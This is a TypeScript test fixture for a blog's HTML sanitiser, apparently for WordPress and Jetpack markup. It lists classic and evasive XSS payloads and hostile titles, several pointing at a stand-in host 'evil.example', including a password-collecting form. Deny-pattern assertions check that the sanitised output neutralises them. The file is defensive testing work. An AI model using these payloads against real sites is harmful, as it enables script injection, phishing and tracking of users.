import { STYLE_ALLOWLIST } from '@/lib/blog/sanitize/styles';

/** Classic XSS vectors (OWASP filter-evasion cheat sheet, DOMPurify's own test corpus) and WordPress quirks. */
export const XSS_PAYLOADS = [
  '<script>window.__xss("script")</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror="window.__xss(\'onerror\')">',
  '<IMG SRC="javascript:window.__xss(\'img-js\')">',
  '<img src="x" ONERROR=window.__xss(1)>',
  '<svg onload="window.__xss(\'svg\')"><circle r="1"/></svg>',
  '<a href="javascript:window.__xss(\'href\')">click</a>',
  '<a href="JaVaScRiPt:window.__xss(1)">mixed case</a>',
  '<a href="jav&#x09;ascript:window.__xss(1)">tab-encoded</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss(1)">entities</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
  '<body onload="window.__xss(1)">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>window.__xss(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss(1)>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss(1)>">',
  '<details open ontoggle="window.__xss(1)">x</details>',
  '<video><source onerror="window.__xss(1)"></video>',
  '<p onclick="window.__xss(1)" onmouseover="window.__xss(2)">hover</p>',
  '<input autofocus onfocus="window.__xss(1)">',
  '<div tabindex="1" autofocus>focus thief</div>',
  '<a href="#" id="main">clobber the skip-link target</a>',
  '<img name="cookie" src="x.png">',
  '<template><script>window.__xss(1)</script></template>',
  '<map name="m"><area shape="rect" coords="0,0,9,9" href="https://evil.example" target="_blank"></map><img src="x.png" usemap="#m">',
  '<area href="https://evil.example" target="_top">',
  '<div class="scroll-locked visually-hidden dialog-module__backdrop__x1 wp-block-group">borrowed site classes</div>',
  '<div role="dialog" aria-modal="true" aria-labelledby="main-heading site-title" aria-describedby="">fake dialog</div>',
  '<p role="alert">urgent</p><nav role="navigation">links</nav><span role="button" aria-controls="menu">menu</span>',
  '<label for="search">label stealing the search box</label><table><tr><td headers="main">cell</td></tr></table>',
  // Style attributes: only allowlisted block-layout declarations survive (STYLE_ALLOWLIST).
  '<div style="position:fixed;inset:0;z-index:9999;width:100vw;height:100vh">full-page overlay</div>',
  '<div style="background-image:url(javascript:window.__xss(1))">js url</div>',
  '<div style="background-image:url(https://evil.example/x.png)">tracking pixel</div>',
  '<div style="background-image:\\75 rl(https://evil.example/x.png)">escaped url</div>',
  '<div style="background:url(https://evil.example/x.png)">shorthand url</div>',
  '<div style="width:expression(window.__xss(1))">expression</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">bindings</div>',
  '<div style="po/**/sition:fixed;z-index:99">comment-split name</div>',
  '<div style="color:red !important;margin-top:-999px">important and negative</div>',
  '<p style="transform:scale(50);filter:blur(9px);content:\'x\'">restyle</p>',
  '<div style="width:99999px;min-height:99999px">huge</div>',
  '<div style="@import url(https://evil.example/x.css);width:10px">import</div>',
  '<img src="x.png" alt="" style="position:absolute;top:0;left:0;width:100%">',
  // Jetpack markup the policy draws from (tiled-gallery__* classes, slideshow strips, server blocks it rewrites).
  '<div class="wp-block-jetpack-tiled-gallery"><div class="tiled-gallery__row" style="position:fixed;inset:0"><div class="tiled-gallery__col" style="flex-basis:50%"><figure class="tiled-gallery__item"><img src="x.png" alt="a" data-url="javascript:window.__xss(1)" data-width="1" data-height="1" role="button" tabindex="0" onload="window.__xss(1)"></figure></div></div></div>',
  '<div class="wp-block-jetpack-slideshow"><ul class="wp-block-jetpack-slideshow_swiper-wrapper" onscroll="window.__xss(1)"><li><img src="x" onerror="window.__xss(1)"></li></ul><a class="wp-block-jetpack-slideshow_button-next" href="javascript:window.__xss(1)" role="button">next</a></div>',
  '<div class="wp-block-jetpack-contact-form-container"><form action="https://evil.example"><input name="password"><button>Send</button></form><script>window.__xss(1)</script></div>',
  '<div class="wp-block-jetpack-eu-cookie-law"><div role="dialog" aria-modal="true"><form><input type="submit" value="Accept"></form><a href="javascript:window.__xss(1)">policy</a></div></div>',
  '<figure class="wp-block-jetpack-image-compare"><div class="juxtapose"><img src="javascript:window.__xss(1)"><img src="x" onerror="window.__xss(1)"></div></figure>',
];

/** Titles (and author names) that try to leave their context: the build writes them into JSON-LD, meta tags and the feed. */
export const HOSTILE_TITLES = [
  '</script><script>window.__xss("title")</script>',
  '&lt;/script&gt;&lt;script&gt;window.__xss(1)&lt;/script&gt;',
  '"><img src=x onerror=window.__xss(1)>',
  '</title><script>window.__xss(1)</script>',
  ']]></title><script>window.__xss(1)</script>',
  '<!-- </script> -->\u2028\u2029',
];

/** What sanitised output must never contain, whatever the payload. */
export function expectNeutralised(clean: string) {
  const lower = clean.toLowerCase();
  expect(lower).not.toMatch(/<script|<iframe|<object|<embed|<style|<link|<meta|<base|<form|<input|<svg|<math/);
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/javascript:|data:text/);
  expect(lower).not.toMatch(/\sautofocus|\ssrcdoc|formaction/);
  const styles = [...lower.matchAll(/\sstyle="([^"]*)"/g)].map((match) => match[1]).join(';');
  expect(styles).not.toMatch(
    /(?<![-\w])position|z-index|inset|transform|filter|content|expression|behavior|binding|@import|!important|javascript|evil\.example|\\/,
  );
  expect(styles).not.toMatch(/url\((?!(?:"|&quot;)https:\/\/[a-z0-9.-]+\.(?:wp\.com|files\.wordpress\.com)\/)/);
  // The only tabindex left is the one the policy puts on code blocks and slideshow strips (they scroll sideways).
  expect(
    lower
      .replace(/<pre([^>]*) tabindex="0"/g, '<pre$1')
      .replace(/(<ul class="wp-block-jetpack-slideshow_swiper-wrapper") tabindex="0"/g, '$1'),
  ).not.toMatch(/\stabindex/);
  expect(lower).not.toMatch(/\sid="(?!user-content-)|\sname="(?!user-content-)/);

  const host = document.createElement('div');
  host.innerHTML = clean;
  for (const element of Array.from(host.querySelectorAll('[target]'))) {
    expect(element.getAttribute('target')).toBe('_blank');
    expect(element.getAttribute('rel')).toBe('noopener noreferrer');
  }
  for (const element of Array.from(host.querySelectorAll('[style]')) as HTMLElement[]) {
    for (let i = 0; i < element.style.length; i += 1) expect(Object.keys(STYLE_ALLOWLIST)).toContain(element.style.item(i));
  }
  for (const element of Array.from(host.querySelectorAll('[class]'))) {
    for (const name of Array.from(element.classList))
      expect(name).toMatch(
        /^(wp-|tiled-gallery__(gallery|row|col|item)$|align|are-|size-|has-|is-|language-|gallery|blocks-gallery-|attachment-)/,
      );
  }
  for (const element of Array.from(host.querySelectorAll('[role]'))) {
    expect(['img', 'presentation', 'none', 'note', 'figure', 'group', 'list', 'listitem', 'separator', 'term', 'definition']).toContain(
      element.getAttribute('role'),
    );
  }
  const references = [
    'aria-labelledby',
    'aria-describedby',
    'aria-controls',
    'aria-owns',
    'aria-flowto',
    'aria-details',
    'aria-errormessage',
    'aria-activedescendant',
    'for',
    'headers',
  ];
  for (const name of references) {
    for (const element of Array.from(host.querySelectorAll(`[${name}]`))) {
      for (const id of (element.getAttribute(name) ?? '').split(/\s+/)) expect(id).toMatch(/^user-content-/);
    }
  }
  for (const element of Array.from(host.querySelectorAll('[usemap]'))) expect(element.getAttribute('usemap')).toMatch(/^#user-content-/);
}
